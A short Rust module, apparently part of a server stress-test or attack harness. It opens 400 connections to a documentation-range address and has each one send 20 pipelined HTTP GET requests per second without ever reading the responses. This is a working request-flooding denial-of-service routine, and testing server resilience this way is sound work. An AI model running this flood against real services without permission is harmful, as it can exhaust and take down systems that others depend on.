//! Requests, one after the other on a connection, whose answers are not read.

use std::time::Duration;

use anyhow::Result;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use crate::attack::client::Crowd;

const CLIENTS: usize = 400;
const AT_ONCE: usize = 20;
const PACE: Duration = Duration::from_secs(1);
const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: 192.0.2.254:8443\r\n\r\n";

pub(super) async fn attack(crowd: &Crowd) {
    crowd
        .all(crowd.at_least(CLIENTS), |client| ask(crowd, client))
        .await;
}

async fn ask(crowd: &Crowd, client: usize) -> Result<()> {
    let mut stream = crowd.dial(client).await?;
    let requests = REQUEST.repeat(AT_ONCE);
    loop {
        stream.write_all(&requests).await?;
        crowd.count_sent(AT_ONCE as u64);
        sleep(PACE).await;
    }
}
